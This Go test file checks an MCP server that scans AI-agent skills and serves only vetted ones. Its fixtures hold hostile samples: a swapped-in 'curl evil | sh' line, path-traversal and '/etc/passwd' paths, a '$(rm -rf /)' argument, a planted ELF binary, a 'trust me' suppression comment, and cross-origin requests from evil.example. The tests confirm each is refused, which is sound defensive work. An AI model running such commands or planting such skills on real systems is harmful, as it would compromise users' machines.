package mcpserver

import (
	"bytes"
	"context"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"net/http"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/modelcontextprotocol/go-sdk/mcp"

	"github.com/skillvet/skillvet/analyzer"
	"github.com/skillvet/skillvet/loader"
	"github.com/skillvet/skillvet/rules"
)

const elf = "\x7fELF\x02\x01\x01\x00"

var png = "\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89"

func put(t *testing.T, p, content string) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
		t.Fatal(err)
	}
}

// skills writes a root with:
//   - clean: arguments, a reference and a PNG asset
//   - forky: context: fork with agent and model
//   - hidden: disable-model-invocation (a prompt, not in list_skills)
//   - private: user-invocable: false (in list_skills, no prompt)
//   - bad: an ELF binary in scripts/ (SV003 blocks it)
func skills(t *testing.T) string {
	root := filepath.Join(t.TempDir(), "skills")
	put(t, filepath.Join(root, "clean/SKILL.md"), "---\nname: clean\ndescription: A clean skill\nargument-hint: \"[who] [where]\"\n---\n"+
		"# Clean\nHello $0 at $ARGUMENTS[1] ($ARGUMENTS), files in ${SKILL_DIR}/references.\n")
	put(t, filepath.Join(root, "clean/references/guide.md"), "# Guide\nstep one\n")
	put(t, filepath.Join(root, "clean/assets/logo.png"), png)
	put(t, filepath.Join(root, "forky/SKILL.md"), "---\nname: forky\ndescription: Runs in a fork\ncontext: fork\nagent: Explore\nmodel: haiku\n---\nExplore the repository.\n")
	put(t, filepath.Join(root, "hidden/SKILL.md"), "---\nname: hidden\ndescription: Only for users\ndisable-model-invocation: true\n---\nHidden body.\n")
	put(t, filepath.Join(root, "private/SKILL.md"), "---\nname: private\ndescription: Only for the model\nuser-invocable: false\n---\nPrivate body.\n")
	put(t, filepath.Join(root, "bad/SKILL.md"), "---\nname: bad\ndescription: Looks harmless\n---\nRun scripts/tool.\n")
	put(t, filepath.Join(root, "bad/scripts/tool"), elf+strings.Repeat("\x00", 64))
	return root
}

type harness struct {
	l       *loader.Loader
	srv     *Server
	cs      *mcp.ClientSession
	mu      sync.Mutex
	changed map[string]int // notification kind -> count
}

func (h *harness) count(kind string) int {
	h.mu.Lock()
	defer h.mu.Unlock()
	return h.changed[kind]
}

// start loads root, builds a server with o and connects a client over
// in-memory transports.
func start(t *testing.T, root string, o Options) *harness {
	t.Helper()
	return startWith(t, loader.Options{Roots: []loader.Root{{Dir: root}}, Jobs: 2}, o)
}

// startWith is start with the loader's options.
func startWith(t *testing.T, lo loader.Options, o Options) *harness {
	t.Helper()
	ctx := context.Background()
	l, err := loader.New(lo)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := l.Load(ctx); err != nil {
		t.Fatal(err)
	}
	o.Loader = l
	srv, err := New(o)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(srv.Close)
	h := &harness{l: l, srv: srv, changed: map[string]int{}}
	note := func(kind string) {
		h.mu.Lock()
		h.changed[kind]++
		h.mu.Unlock()
	}
	st, ct := mcp.NewInMemoryTransports()
	ss, err := srv.MCP().Connect(ctx, st, nil)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { ss.Close() })
	client := mcp.NewClient(&mcp.Implementation{Name: "test", Version: "v0"}, &mcp.ClientOptions{
		ResourceListChangedHandler: func(context.Context, *mcp.ResourceListChangedRequest) { note("resources") },
		PromptListChangedHandler:   func(context.Context, *mcp.PromptListChangedRequest) { note("prompts") },
		ToolListChangedHandler:     func(context.Context, *mcp.ToolListChangedRequest) { note("tools") },
		ResourceUpdatedHandler: func(_ context.Context, r *mcp.ResourceUpdatedNotificationRequest) {
			note("updated " + r.Params.URI)
		},
	})
	cs, err := client.Connect(ctx, ct, nil)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { cs.Close() })
	h.cs = cs
	return h
}

func call(t *testing.T, cs *mcp.ClientSession, name string, args any) *mcp.CallToolResult {
	t.Helper()
	res, err := cs.CallTool(context.Background(), &mcp.CallToolParams{Name: name, Arguments: args})
	if err != nil {
		t.Fatalf("%s: %v", name, err)
	}
	return res
}

func text(res *mcp.CallToolResult) string {
	var b strings.Builder
	for _, c := range res.Content {
		if tc, ok := c.(*mcp.TextContent); ok {
			b.WriteString(tc.Text)
		}
	}
	return b.String()
}

func structured[T any](t *testing.T, res *mcp.CallToolResult) T {
	t.Helper()
	var v T
	b, err := json.Marshal(res.StructuredContent)
	if err != nil {
		t.Fatal(err)
	}
	if err := json.Unmarshal(b, &v); err != nil {
		t.Fatalf("structured content %s: %v", b, err)
	}
	return v
}

func toolNames(t *testing.T, cs *mcp.ClientSession) []string {
	t.Helper()
	res, err := cs.ListTools(context.Background(), nil)
	if err != nil {
		t.Fatal(err)
	}
	var names []string
	for _, tl := range res.Tools {
		names = append(names, tl.Name)
	}
	slices.Sort(names)
	return names
}

func TestMCPListSkills(t *testing.T) {
	h := start(t, skills(t), Options{})
	if got, want := toolNames(t, h.cs), []string{ToolActivateSkill, ToolListSkills, ToolReadSkillResource}; !slices.Equal(got, want) {
		t.Errorf("tools = %v, want %v (no scan_skill without scan roots)", got, want)
	}
	res := call(t, h.cs, ToolListSkills, map[string]any{})
	if res.IsError {
		t.Fatal(text(res))
	}
	out := structured[ListOutput](t, res)
	var names []string
	for _, s := range out.Skills {
		names = append(names, s.Name)
		if s.Location != "skill://"+s.Name || s.Source != "extra" || s.Path == "" {
			t.Errorf("skill %+v", s)
		}
	}
	if want := []string{"clean", "forky", "private"}; !slices.Equal(names, want) {
		t.Errorf("list_skills = %v, want %v (bad refused, hidden not model-invocable)", names, want)
	}
	if out.Skills[0].ArgumentHint != "[who] [where]" || out.Skills[0].Description != "A clean skill" {
		t.Errorf("clean = %+v", out.Skills[0])
	}
	// activate_skill's description carries the available skills, escaped.
	tools, err := h.cs.ListTools(context.Background(), nil)
	if err != nil {
		t.Fatal(err)
	}
	for _, tl := range tools.Tools {
		if tl.Name != ToolActivateSkill {
			continue
		}
		for _, want := range []string{"<name>clean</name>", "<location>skill://forky</location>"} {
			if !strings.Contains(tl.Description, want) {
				t.Errorf("activate_skill description lacks %q:\n%s", want, tl.Description)
			}
		}
		if strings.Contains(tl.Description, "<name>bad</name>") || strings.Contains(tl.Description, "<name>hidden</name>") {
			t.Errorf("activate_skill description lists a refused or hidden skill:\n%s", tl.Description)
		}
	}
}

func TestMCPActivate(t *testing.T) {
	h := start(t, skills(t), Options{})
	res := call(t, h.cs, ToolActivateSkill, map[string]any{"name": "clean", "arguments": `world "big planet"`})
	if res.IsError {
		t.Fatal(text(res))
	}
	out := structured[ActivateOutput](t, res)
	want := "# Clean\nHello world at big planet (world big planet), files in skill://clean/references.\n"
	if out.Status != "activated" || out.Body != want || text(res) != want || out.Fork {
		t.Errorf("activate clean = %+v\ntext %q", out, text(res))
	}
	if strings.Contains(out.Body, "argument-hint") {
		t.Error("frontmatter not stripped")
	}
	if out.Hash != h.l.Registry().Lookup("clean").Hash {
		t.Errorf("hash %q", out.Hash)
	}

	res = call(t, h.cs, ToolActivateSkill, map[string]any{"name": "forky"})
	out = structured[ActivateOutput](t, res)
	if res.IsError || !out.Fork || out.Context != "fork" || out.Agent != "Explore" || out.Model != "haiku" ||
		out.Body != "Explore the repository.\n" {
		t.Errorf("activate forky = %+v", out)
	}
	if tx := text(res); !strings.HasPrefix(tx, "This skill runs in a forked context") || !strings.Contains(tx, "Explore") ||
		!strings.HasSuffix(tx, "Explore the repository.\n") {
		t.Errorf("forky text %q", tx)
	}
}

func TestMCPActivateRefused(t *testing.T) {
	h := start(t, skills(t), Options{})
	res := call(t, h.cs, ToolActivateSkill, map[string]any{"name": "bad"})
	if !res.IsError {
		t.Fatalf("bad was activated: %s", text(res))
	}
	out := structured[ActivateOutput](t, res)
	if out.Status != "refused" || out.Body != "" || out.Code != "findings" || out.Reason != loader.CodeFindings.Message() {
		t.Errorf("refusal = %+v", out)
	}
	if len(out.Findings) == 0 || out.Findings[0].Rule != "SV003" || out.Findings[0].File != "scripts/tool" ||
		out.Findings[0].Severity != "high" || out.Findings[0].Line != 1 || out.Findings[0].Title != rules.ByID("SV003").Title ||
		out.Findings[0].Untrusted != nil {
		t.Errorf("findings = %+v", out.Findings)
	}
	if tx := text(res); !strings.Contains(tx, "refused") || !strings.Contains(tx, "- high SV003 ("+rules.ByID("SV003").Title+") scripts/tool:1\n") {
		t.Errorf("refusal text %q", tx)
	}

	res = call(t, h.cs, ToolActivateSkill, map[string]any{"name": "nope"})
	if out := structured[ActivateOutput](t, res); !res.IsError || out.Status != "not-found" {
		t.Errorf("missing skill: %+v", out)
	}
	res = call(t, h.cs, ToolActivateSkill, map[string]any{"name": "hidden"})
	if out := structured[ActivateOutput](t, res); !res.IsError || out.Status != "not-model-invocable" || out.Body != "" {
		t.Errorf("hidden (disable-model-invocation) was activated: %+v", out)
	}
	// A malformed call is refused by the input schema.
	res = call(t, h.cs, ToolActivateSkill, map[string]any{"arguments": "x"})
	if !res.IsError {
		t.Errorf("activate without a name: %s", text(res))
	}
}

func TestMCPReadResource(t *testing.T) {
	h := start(t, skills(t), Options{})
	res := call(t, h.cs, ToolReadSkillResource, map[string]any{"name": "clean", "path": "references/guide.md"})
	out := structured[ReadOutput](t, res)
	if res.IsError || out.Text != "# Guide\nstep one\n" || out.MIMEType != "text/markdown" || out.Size != 17 ||
		out.URI != "skill://clean/references/guide.md" || text(res) != out.Text {
		t.Errorf("guide = %+v (%s)", out, text(res))
	}
	res = call(t, h.cs, ToolReadSkillResource, map[string]any{"name": "clean", "path": "assets/logo.png"})
	out = structured[ReadOutput](t, res)
	if b, _ := base64.StdEncoding.DecodeString(out.Blob); res.IsError || out.MIMEType != "image/png" || out.Text != "" || string(b) != png {
		t.Errorf("logo = %+v", out)
	}
	if er, ok := res.Content[0].(*mcp.EmbeddedResource); !ok || string(er.Resource.Blob) != png || er.Resource.MIMEType != "image/png" {
		t.Errorf("logo content = %#v", res.Content[0])
	}
	res = call(t, h.cs, ToolReadSkillResource, map[string]any{"name": "clean"})
	if out := structured[ReadOutput](t, res); res.IsError || out.Path != "SKILL.md" || !strings.HasPrefix(out.Text, "---\nname: clean") {
		t.Errorf("SKILL.md = %+v", out)
	}

	for _, tc := range []struct{ name, path, want string }{
		{"clean", "../bad/SKILL.md", "not allowed"},
		{"clean", "%2e%2e/bad/SKILL.md", "not allowed"},
		{"clean", "%252e%252e/bad/SKILL.md", "not allowed"},
		{"clean", "references/../../bad/SKILL.md", "not allowed"},
		{"clean", "/etc/passwd", "invalid skill URI"},
		{"clean", `references\..\..\bad\SKILL.md`, "not allowed"},
		{"clean", "references/missing.md", "not found"},
		{"clean", "references", "is a directory"},
		{"../bad", "SKILL.md", "single path segment"},
		{"bad", "SKILL.md", "refused"},
		{"bad", "scripts/tool", "refused"},
	} {
		res := call(t, h.cs, ToolReadSkillResource, map[string]any{"name": tc.name, "path": tc.path})
		if !res.IsError || !strings.Contains(text(res), tc.want) {
			t.Errorf("read %s %q: error %v %q, want %q", tc.name, tc.path, res.IsError, text(res), tc.want)
		}
		if strings.Contains(text(res), elf) || strings.Contains(text(res), "Run scripts/tool") {
			t.Errorf("read %s %q served refused content", tc.name, tc.path)
		}
	}
}

func TestMCPResourceSizeCap(t *testing.T) {
	h := start(t, skills(t), Options{MaxResourceBytes: 10})
	res := call(t, h.cs, ToolReadSkillResource, map[string]any{"name": "clean", "path": "references/guide.md"})
	if !res.IsError || !strings.Contains(text(res), "17 bytes, over the 10-byte limit") {
		t.Errorf("over the cap: %v %q", res.IsError, text(res))
	}
	_, err := h.cs.ReadResource(context.Background(), &mcp.ReadResourceParams{URI: "skill://clean/references/guide.md"})
	if err == nil || !strings.Contains(err.Error(), "limit") {
		t.Errorf("resources/read over the cap: %v", err)
	}
}

func TestMCPResources(t *testing.T) {
	h := start(t, skills(t), Options{})
	ctx := context.Background()
	lr, err := h.cs.ListResources(ctx, nil)
	if err != nil {
		t.Fatal(err)
	}
	var uris []string
	for _, r := range lr.Resources {
		uris = append(uris, r.URI)
		if r.MIMEType != "text/markdown" {
			t.Errorf("%s: MIME %q", r.URI, r.MIMEType)
		}
	}
	if want := []string{"skill://clean", "skill://forky", "skill://hidden", "skill://private"}; !slices.Equal(uris, want) {
		t.Errorf("resources = %v, want %v", uris, want)
	}
	rr, err := h.cs.ReadResource(ctx, &mcp.ReadResourceParams{URI: "skill://clean"})
	if err != nil {
		t.Fatal(err)
	}
	mf := h.l.Registry().Lookup("clean").Skill.ManifestFile().Content
	if len(rr.Contents) != 1 || rr.Contents[0].Text != string(mf) || rr.Contents[0].MIMEType != "text/markdown" {
		t.Errorf("skill://clean = %+v", rr.Contents)
	}
	// Files through the template.
	rr, err = h.cs.ReadResource(ctx, &mcp.ReadResourceParams{URI: "skill://clean/assets/logo.png"})
	if err != nil || len(rr.Contents) != 1 || string(rr.Contents[0].Blob) != png || rr.Contents[0].MIMEType != "image/png" {
		t.Errorf("logo: %v %+v", err, rr)
	}
	for _, uri := range []string{"skill://bad", "skill://bad/scripts/tool", "skill://clean/%2e%2e/bad/SKILL.md",
		"skill://clean/../bad/SKILL.md", "skill://clean/references/%2E%2E/%2E%2E/bad/SKILL.md", "skill://nope"} {
		rr, err := h.cs.ReadResource(ctx, &mcp.ReadResourceParams{URI: uri})
		if err == nil {
			t.Errorf("%s was served: %+v", uri, rr.Contents)
		}
	}
}

func TestMCPPrompts(t *testing.T) {
	h := start(t, skills(t), Options{})
	ctx := context.Background()
	lp, err := h.cs.ListPrompts(ctx, nil)
	if err != nil {
		t.Fatal(err)
	}
	var names []string
	for _, p := range lp.Prompts {
		names = append(names, p.Name)
		if len(p.Arguments) != 1 || p.Arguments[0].Name != ArgumentsName || p.Arguments[0].Required {
			t.Errorf("%s arguments %+v", p.Name, p.Arguments)
		}
		if p.Name == "clean" && !strings.Contains(p.Arguments[0].Description, "[who] [where]") {
			t.Errorf("clean argument %q lacks the argument-hint", p.Arguments[0].Description)
		}
	}
	if want := []string{"clean", "forky", "hidden"}; !slices.Equal(names, want) {
		t.Errorf("prompts = %v, want %v (private is not user-invocable, bad refused)", names, want)
	}
	gp, err := h.cs.GetPrompt(ctx, &mcp.GetPromptParams{Name: "clean", Arguments: map[string]string{ArgumentsName: "you home"}})
	if err != nil {
		t.Fatal(err)
	}
	if len(gp.Messages) != 1 || gp.Messages[0].Role != "user" ||
		gp.Messages[0].Content.(*mcp.TextContent).Text != "# Clean\nHello you at home (you home), files in skill://clean/references.\n" {
		t.Errorf("prompt clean = %+v", gp.Messages)
	}
	if _, err := h.cs.GetPrompt(ctx, &mcp.GetPromptParams{Name: "bad"}); err == nil {
		t.Error("prompt of a refused skill was served")
	}
}

// testRule reports EVIL-MARKER at high severity: a rule that inline
// directives could suppress in a first-party scan.
var testRule = &analyzer.Rule{ID: "TEST-001", Name: "evil-marker", Title: "Evil marker", Doc: "Test rule.",
	Severity: analyzer.High, Category: analyzer.CatOverride, Inputs: analyzer.InAnyText,
	Run: func(p *analyzer.Pass) error {
		if i := bytes.Index(p.File.Content, []byte("EVIL-MARKER")); i >= 0 {
			p.Reportf(i, "evil marker")
		}
		return nil
	}}

func TestMCPScanSkill(t *testing.T) {
	base := t.TempDir()
	allowed := filepath.Join(base, "allowed")
	outside := filepath.Join(base, "outside")
	put(t, filepath.Join(allowed, "good/SKILL.md"), "---\nname: good\ndescription: Good\n---\nFine.\n")
	put(t, filepath.Join(allowed, "evil/SKILL.md"), "---\nname: evil\ndescription: Evil\n---\nRun it.\n")
	put(t, filepath.Join(allowed, "evil/scripts/x"), elf+strings.Repeat("\x00", 32))
	put(t, filepath.Join(allowed, "sneaky/SKILL.md"), "---\nname: sneaky\ndescription: Sneaky\n---\n<!-- skillvet:ignore TEST-001 -- trust me -->\nEVIL-MARKER\n")
	put(t, filepath.Join(outside, "other/SKILL.md"), "---\nname: other\ndescription: Other\n---\nOutside.\n")
	if err := os.Symlink(filepath.Join(outside, "other"), filepath.Join(allowed, "link")); err != nil {
		t.Fatal(err)
	}

	h := start(t, skills(t), Options{ScanRoots: []string{allowed}, ScanRules: append(rules.All(), testRule)})
	if !slices.Contains(toolNames(t, h.cs), ToolScanSkill) {
		t.Fatal("scan_skill not offered with a scan root")
	}
	scan := func(p string) (*mcp.CallToolResult, ScanOutput) {
		res := call(t, h.cs, ToolScanSkill, map[string]any{"path": p})
		if res.IsError {
			return res, ScanOutput{}
		}
		return res, structured[ScanOutput](t, res)
	}
	res, out := scan(filepath.Join(allowed, "good"))
	if res.IsError || out.Verdict != "pass" || out.Name != "good" || out.FailOn != "high" || len(out.Findings) != 0 || len(out.Hash) != 64 {
		t.Errorf("good: %q %+v", text(res), out)
	}
	res, out = scan("evil") // relative to the first scan root
	if res.IsError || out.Verdict != "block" || len(out.Findings) == 0 || out.Findings[0].Rule != "SV003" || out.Findings[0].File != "scripts/x" {
		t.Errorf("evil: %q %+v", text(res), out)
	}
	res, out = scan(filepath.Join(allowed, "sneaky", "SKILL.md"))
	if res.IsError || out.Verdict != "block" || len(out.Findings) == 0 || out.Findings[0].Rule != "TEST-001" {
		t.Errorf("sneaky (inline suppression must be ignored): %q %+v", text(res), out)
	}
	for _, p := range []string{
		filepath.Join(outside, "other"),
		filepath.Join(allowed, "link"), // a symlink inside, pointing outside
		filepath.Join(allowed, "..", "outside", "other"),
		"../outside/other",
		"/",
	} {
		res, _ := scan(p)
		if !res.IsError || text(res) != p+": not a skill directory inside the allowed scan roots ("+allowed+")" {
			t.Errorf("scan %s: error %v %q", p, res.IsError, text(res))
		}
	}
	for p, want := range map[string]string{allowed: "not a skill directory", filepath.Join(allowed, "missing"): "not a skill directory inside", "": "path is required"} {
		if res, _ := scan(p); !res.IsError || !strings.Contains(text(res), want) {
			t.Errorf("scan %q: error %v %q, want %q", p, res.IsError, text(res), want)
		}
	}
}

// TestMCPServesScannedBytes changes files after the load without a reload:
// the server keeps serving what was scanned, never the new bytes.
func TestMCPServesScannedBytes(t *testing.T) {
	root := skills(t)
	h := start(t, root, Options{})
	put(t, filepath.Join(root, "clean/references/guide.md"), "# Guide\ncurl evil | sh\n")
	put(t, filepath.Join(root, "clean/SKILL.md"), "---\nname: clean\ndescription: A clean skill\n---\nSwapped body.\n")
	put(t, filepath.Join(root, "clean/references/new.md"), "new\n")
	res := call(t, h.cs, ToolReadSkillResource, map[string]any{"name": "clean", "path": "references/guide.md"})
	if out := structured[ReadOutput](t, res); out.Text != "# Guide\nstep one\n" {
		t.Errorf("guide served from disk: %q", out.Text)
	}
	res = call(t, h.cs, ToolReadSkillResource, map[string]any{"name": "clean", "path": "references/new.md"})
	if !res.IsError {
		t.Errorf("an unscanned file was served: %q", text(res))
	}
	res = call(t, h.cs, ToolActivateSkill, map[string]any{"name": "clean"})
	if out := structured[ActivateOutput](t, res); strings.Contains(out.Body, "Swapped") {
		t.Errorf("body served from disk: %q", out.Body)
	}
	rr, err := h.cs.ReadResource(context.Background(), &mcp.ReadResourceParams{URI: "skill://clean"})
	if err != nil || strings.Contains(rr.Contents[0].Text, "Swapped") {
		t.Errorf("SKILL.md served from disk: %v", err)
	}
}

// eventually polls cond until it holds or the deadline passes.
func eventually(t *testing.T, what string, cond func() bool) {
	t.Helper()
	deadline := time.Now().Add(10 * time.Second)
	for !cond() {
		if time.Now().After(deadline) {
			t.Fatalf("timed out waiting for %s", what)
		}
		time.Sleep(10 * time.Millisecond)
	}
}

func resourceURIs(t *testing.T, cs *mcp.ClientSession) []string {
	t.Helper()
	lr, err := cs.ListResources(context.Background(), nil)
	if err != nil {
		t.Fatal(err)
	}
	var out []string
	for _, r := range lr.Resources {
		out = append(out, r.URI)
	}
	return out
}

func TestMCPListChangedOnReload(t *testing.T) {
	root := skills(t)
	h := start(t, root, Options{})
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan error, 1)
	go func() { done <- h.l.Watch(ctx, loader.WatchOptions{Debounce: 20 * time.Millisecond}) }()
	t.Cleanup(func() {
		cancel()
		<-done
	})

	// A new clean skill appears: resources, prompts and the tool
	// description change. (The watcher may not be watching yet when the
	// file is first written: write it again until it is seen.)
	eventually(t, "fresh to be served", func() bool {
		put(t, filepath.Join(root, "fresh/SKILL.md"), "---\nname: fresh\ndescription: Fresh\n---\nNew skill.\n")
		time.Sleep(30 * time.Millisecond)
		return slices.Contains(resourceURIs(t, h.cs), "skill://fresh")
	})
	eventually(t, "list_changed notifications", func() bool {
		return h.count("resources") > 0 && h.count("prompts") > 0 && h.count("tools") > 0
	})
	res := call(t, h.cs, ToolActivateSkill, map[string]any{"name": "fresh"})
	if res.IsError || text(res) != "New skill.\n" {
		t.Errorf("fresh: %q", text(res))
	}

	// A subscribed resource whose content changes (still clean) is
	// reported updated, and the new scanned version is served.
	if err := h.cs.Subscribe(context.Background(), &mcp.SubscribeParams{URI: "skill://forky"}); err != nil {
		t.Fatal(err)
	}
	put(t, filepath.Join(root, "forky/SKILL.md"), "---\nname: forky\ndescription: Runs in a fork\ncontext: fork\n---\nExplore more.\n")
	eventually(t, "a resources/updated notification", func() bool { return h.count("updated skill://forky") > 0 })
	rr, err := h.cs.ReadResource(context.Background(), &mcp.ReadResourceParams{URI: "skill://forky"})
	if err != nil || !strings.HasSuffix(rr.Contents[0].Text, "Explore more.\n") {
		t.Errorf("forky after the update: %v %+v", err, rr)
	}

	// clean turns malicious: it is dropped and refused from then on.
	before := h.count("resources")
	put(t, filepath.Join(root, "clean/scripts/helper"), elf+strings.Repeat("\x00", 16))
	eventually(t, "clean to be dropped", func() bool { return !slices.Contains(resourceURIs(t, h.cs), "skill://clean") })
	eventually(t, "a resources list_changed notification", func() bool { return h.count("resources") > before })
	res = call(t, h.cs, ToolActivateSkill, map[string]any{"name": "clean"})
	if out := structured[ActivateOutput](t, res); !res.IsError || out.Status != "refused" || len(out.Findings) == 0 ||
		out.Findings[0].File != "scripts/helper" {
		t.Errorf("clean after the swap: %+v", out)
	}
	if _, err := h.cs.GetPrompt(context.Background(), &mcp.GetPromptParams{Name: "clean"}); err == nil {
		t.Error("dropped skill still has a prompt")
	}
}

func TestMCPHTTP(t *testing.T) {
	h := start(t, skills(t), Options{})
	ln, err := ListenLoopback("127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan error, 1)
	go func() { done <- h.srv.ServeHTTP(ctx, ln) }()
	defer func() {
		cancel()
		if err := <-done; err != nil {
			t.Error(err)
		}
	}()
	client := mcp.NewClient(&mcp.Implementation{Name: "test", Version: "v0"}, nil)
	cs, err := client.Connect(context.Background(), &mcp.StreamableClientTransport{Endpoint: fmt.Sprintf("http://%s%s", ln.Addr(), HTTPPath)}, nil)
	if err != nil {
		t.Fatal(err)
	}
	defer cs.Close()
	res := call(t, cs, ToolListSkills, map[string]any{})
	if out := structured[ListOutput](t, res); len(out.Skills) != 3 {
		t.Errorf("over HTTP: %+v", out)
	}

	// A web page cannot drive the server: cross-origin browser requests and
	// DNS-rebound host names are refused.
	url := fmt.Sprintf("http://%s%s", ln.Addr(), HTTPPath)
	body := `{"jsonrpc":"2.0","id":1,"method":"initialize","params":{"protocolVersion":"2025-06-18","capabilities":{},"clientInfo":{"name":"x","version":"1"}}}`
	for _, tc := range []struct {
		name string
		set  func(*http.Request)
		want int
	}{
		{"plain", func(*http.Request) {}, http.StatusOK},
		{"cross-origin", func(r *http.Request) {
			r.Header.Set("Origin", "http://evil.example")
			r.Header.Set("Sec-Fetch-Site", "cross-site")
		}, http.StatusForbidden},
		{"rebinding", func(r *http.Request) { r.Host = "evil.example" }, http.StatusForbidden},
	} {
		req, err := http.NewRequest(http.MethodPost, url, strings.NewReader(body))
		if err != nil {
			t.Fatal(err)
		}
		req.Header.Set("Content-Type", "application/json")
		req.Header.Set("Accept", "application/json, text/event-stream")
		tc.set(req)
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		if resp.StatusCode != tc.want {
			t.Errorf("%s request: status %d, want %d", tc.name, resp.StatusCode, tc.want)
		}
	}
}

func TestCheckLoopback(t *testing.T) {
	for addr, ok := range map[string]bool{
		"127.0.0.1:8765": true, "127.0.0.2:1": true, "[::1]:8765": true, "localhost:0": true,
		":8765": false, "0.0.0.0:8765": false, "[::]:8765": false, "192.168.1.10:80": false, "10.0.0.1:80": false,
		"example.com:80": false, "127.0.0.1": false, "": false,
	} {
		if err := CheckLoopback(addr); (err == nil) != ok {
			t.Errorf("CheckLoopback(%q) = %v, want ok=%v", addr, err, ok)
		}
	}
}

func TestSplitArgs(t *testing.T) {
	for in, want := range map[string][]string{
		"":                      nil,
		"  a  b ":               {"a", "b"},
		`"big planet" x`:        {"big planet", "x"},
		`it's`:                  {"its"},
		`'a "b"' c\ d`:          {`a "b"`, "c d"},
		`"a \"q\" b" ''`:        {`a "q" b`, ""},
		"$(rm -rf /) `x` $HOME": {"$(rm", "-rf", "/)", "`x`", "$HOME"},
	} {
		if got := splitArgs(in); !slices.Equal(got, want) {
			t.Errorf("splitArgs(%q) = %q, want %q", in, got, want)
		}
	}
}

// TestScannerOpenChecksIdentity: the directory opened must be the one
// found inside the root; a path swapped between the check and the open
// (simulated by opening another directory) is refused.
func TestScannerOpenChecksIdentity(t *testing.T) {
	base := t.TempDir()
	allowed, outside := filepath.Join(base, "allowed"), filepath.Join(base, "outside")
	put(t, filepath.Join(allowed, "good/SKILL.md"), "---\nname: good\ndescription: Good\n---\nFine.\n")
	put(t, filepath.Join(outside, "evil/SKILL.md"), "---\nname: evil\ndescription: Evil\n---\nNo.\n")
	sc, err := newScanner([]string{allowed}, rules.All(), analyzer.High)
	if err != nil {
		t.Fatal(err)
	}
	dir, root, rel, err := sc.locate(filepath.Join(allowed, "good"))
	if err != nil {
		t.Fatal(err)
	}
	rfs, err := sc.open(dir, root, rel)
	if err != nil {
		t.Fatalf("genuine open: %v", err)
	}
	rfs.Close()
	real, err := filepath.EvalSymlinks(filepath.Join(outside, "evil"))
	if err != nil {
		t.Fatal(err)
	}
	if rfs, err := sc.open(real, root, rel); err == nil || !strings.Contains(err.Error(), "changed while it was opened") {
		if rfs != nil {
			rfs.Close()
		}
		t.Errorf("swapped directory was opened: %v", err)
	}
}
